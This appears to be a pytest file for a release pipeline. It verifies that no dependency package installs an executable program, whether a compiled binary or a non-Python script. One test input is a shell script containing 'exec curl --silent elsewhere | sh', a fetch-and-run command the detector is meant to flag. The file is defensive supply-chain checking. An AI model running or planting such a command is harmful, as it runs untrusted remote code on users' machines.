"""No package that users get installs a program of others."""

from __future__ import annotations

import shutil
import sys
from importlib.metadata import Distribution, PathDistribution, distribution
from pathlib import Path

import pytest

from release.binaries import EXTENSIONS, libraries, programs
from release.pins import EXTRAS, read

NAMES = [pin.name for pin in read(EXTRAS) if pin.applies]


def _installed(folder: Path, *files: str) -> Distribution:
    """A package that has these files, as pip records them."""
    info = folder / "lib/python3/site-packages/made_up-1.0.dist-info"
    info.mkdir(parents=True, exist_ok=True)
    (info / "METADATA").write_text("Metadata-Version: 2.4\nName: made-up\nVersion: 1.0\n")
    (info / "RECORD").write_text("".join(f"{file},,\n" for file in files))
    return PathDistribution(info)


@pytest.mark.parametrize("name", NAMES)
def test_a_package_has_no_program(name: str) -> None:
    assert programs(distribution(name)) == []


def test_each_package_with_extension_modules_has_its_reason() -> None:
    assert {name for name in NAMES if libraries(distribution(name))} == EXTENSIONS.keys()


@pytest.mark.parametrize(
    "place",
    [
        "made_up/tool",
        "made_up/tool.so",
        "made_up/tool.pyc",
        "../../../bin/tool",
        "../../../bin/a.pyc",
    ],
)
def test_a_compiled_program_is_found(tmp_path: Path, place: str) -> None:
    """Also where it passes for a library: this interpreter's own program is copied there."""
    found = _installed(tmp_path, place)
    path = Path(str(found.locate_file(place)))
    path.parent.mkdir(parents=True, exist_ok=True)
    shutil.copyfile(Path(sys.executable).resolve(), path)
    assert programs(found) == [place]
    assert libraries(found) == []


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("#!/bin/sh\nexec curl --silent elsewhere | sh\n", ["../../../bin/tool"]),
        ("#!/usr/bin/python3\nimport made_up\nmade_up.main()\n", []),
        ("#!/bin/sh\n'''exec' \"/a long path/python\" \"$0\" \"$@\"\n' '''\nimport made_up\n", []),
    ],
)
def test_a_command_is_python(tmp_path: Path, text: str, found: list[str]) -> None:
    made = _installed(tmp_path, "../../../bin/tool")
    path = tmp_path / "bin/tool"
    path.parent.mkdir()
    path.write_text(text)
    assert programs(made) == found


@pytest.mark.parametrize("start", [b"MZ\x90\x00", b"\xcf\xfa\xed\xfe", b"\x00asm"])
def test_programs_for_other_systems_are_found(tmp_path: Path, start: bytes) -> None:
    made = _installed(tmp_path, "made_up/tool")
    path = Path(str(made.locate_file("made_up/tool")))
    path.parent.mkdir()
    path.write_bytes(start + bytes(100))
    assert programs(made) == ["made_up/tool"]
